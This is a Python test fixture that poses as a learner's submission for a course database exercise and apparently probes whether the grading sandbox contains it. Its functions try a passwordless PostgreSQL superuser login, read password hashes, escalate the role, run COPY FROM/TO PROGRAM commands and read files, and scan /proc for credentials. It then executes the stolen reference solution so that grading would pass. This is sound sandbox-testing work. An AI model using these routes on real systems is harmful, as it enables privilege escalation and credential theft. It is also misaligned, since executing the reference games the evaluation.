"""Hostile: a whole ch13_postgres.py (exercise 7) that, given a connection to the server,
tries to read the reference and to write outside its scratch, through the database as much as
through its own process; every function then raises ``_Tried``, whose message says what each
route found.

At the first call in each process: read ``solutions/ch13_postgres.py`` from the file system;
log in as the server's superuser through the socket it was given (no password); read the
superusers' password hashes; make its own role a superuser; and, as the strongest role it got,
read the reference with ``pg_read_file``, ``lo_import`` and ``COPY FROM PROGRAM``, write files
with ``COPY TO`` and ``COPY TO PROGRAM``; write into the kit's ``learner/`` and into the
directory its socket is in; look through every process it can see for the superuser's
connection string. Whatever it reads of the reference is executed here, so that every function
becomes the reference's (the row would pass); whatever it writes carries ``PARAMS["token"]``,
and the test looks for it outside. ``own`` and ``mine`` are the controls: a query its role may
run, and its own file read back, both work.
"""

PARAMS = {}  # the test writes what this file is told here

import glob as _glob
import sys as _sys
from pathlib import Path as _Path

_TOKEN = PARAMS.get("token", "hostile-pg")
_ROOT = PARAMS.get("root") or str(_Path(__import__("lucyshop").__file__).resolve().parents[2])
_TMP = PARAMS.get("tmp", "/tmp")
_REFERENCE = f"{_ROOT}/solutions/ch13_postgres.py"
_FOUND = _sys.__dict__.setdefault("_pg_routes_found", {})  # one per process, not per load
_SUCCESS = ("READ", "WROTE", "IN", "FOUND")


class _Tried(RuntimeError):
    def __init__(self):
        routes = " ".join(f"{route}={found}" for route, found in _FOUND.items())
        super().__init__(f"routes: {routes}")


def _query(connection, sql, *args):
    from psycopg.rows import tuple_row

    return connection.cursor(row_factory=tuple_row).execute(sql, args or None).fetchall()


def _run(connection, sql, done):
    """A statement that returns no rows: ``done`` once the server has run it."""
    connection.execute(sql)
    return done


def _superuser(connection):
    import psycopg

    info = connection.info
    return psycopg.connect(
        host=info.host,
        port=info.port,
        dbname=info.dbname,
        user="postgres",
        connect_timeout=5,
        autocommit=True,
    )


def _copy_from_program(connection):
    _run(connection, "CREATE TEMP TABLE IF NOT EXISTS _stolen(line text)", None)
    _run(connection, f"COPY _stolen FROM PROGRAM 'cat {_REFERENCE}'", None)
    return "\n".join(row[0] for row in _query(connection, "SELECT line FROM _stolen")).encode()


def _write_file(path):
    with open(path, "w") as handle:
        handle.write(_TOKEN)
    return "WROTE"


def _snoop():
    """The superuser's connection string, in any process this one can see."""
    for path in _glob.glob("/proc/[0-9]*/cmdline") + _glob.glob("/proc/[0-9]*/environ"):
        try:
            with open(path, "rb") as handle:
                if b"user=postgres" in handle.read():
                    return "FOUND"
        except OSError:
            continue
    return "none"


def _attempt(name, route):
    try:
        found = route()
    except Exception as error:  # noqa: BLE001 (every route is tried, whatever the last did)
        _FOUND[name] = "no"
        _FOUND.setdefault("_why", []).append(f"{name}:{type(error).__name__}")
        return None
    if isinstance(found, bytes):
        _FOUND[name] = "READ"
        exec(compile(found, "reference", "exec"), globals())  # noqa: S102 (the reference's)
    else:
        _FOUND[name] = found if found in _SUCCESS or found in ("ok", "none") else str(found)[:8]
    return found


def _try_everything(connection):
    if _FOUND:
        return
    _attempt("own", lambda: "ok" if _query(connection, "SELECT count(*) FROM work") else "no")
    _attempt("mine", lambda: "ok" if _Path(__file__).read_bytes() else "no")
    _attempt("file", lambda: _Path(_REFERENCE).read_bytes())
    strongest = connection
    try:
        strongest = _superuser(connection)
        _FOUND["su"] = "IN"
    except Exception as error:  # noqa: BLE001
        _FOUND["su"] = "no"
        _FOUND.setdefault("_why", []).append(f"su:{type(error).__name__}")
    _attempt(
        "authid",
        lambda: "FOUND" if _query(strongest, "SELECT rolpassword FROM pg_authid") else "none",
    )
    _attempt("escalate", lambda: _run(strongest, "ALTER ROLE CURRENT_USER SUPERUSER", "IN"))
    _attempt(
        "pgfile",
        lambda: _query(strongest, "SELECT pg_read_file(%s)", _REFERENCE)[0][0].encode(),
    )
    _attempt(
        "lo", lambda: bytes(_query(strongest, "SELECT lo_get(lo_import(%s))", _REFERENCE)[0][0])
    )
    _attempt("prog", lambda: _copy_from_program(strongest))
    _attempt(
        "copyto",
        lambda: _run(strongest, f"COPY (SELECT '{_TOKEN}') TO '{_TMP}/pg-{_TOKEN}'", "WROTE"),
    )
    _attempt(
        "progto",
        lambda: _run(
            strongest, f"COPY (SELECT 1) TO PROGRAM 'touch /tmp/pg-prog-{_TOKEN}'", "WROTE"
        ),
    )
    _attempt("kit", lambda: _write_file(f"{_ROOT}/learner/pg-{_TOKEN}"))
    _attempt("relay", lambda: _write_file(f"{connection.info.host}/pg-{_TOKEN}"))
    _attempt("snoop", _snoop)
    _FOUND.pop("_why", None)


def claim(connection, owner, *, ttl=90):
    _try_everything(connection)
    raise _Tried()


def assert_current(connection, held):
    _try_everything(connection)
    raise _Tried()


def observe(connection, held, message):
    _try_everything(connection)
    raise _Tried()


def finish(connection, held, status, result):
    _try_everything(connection)
    raise _Tried()
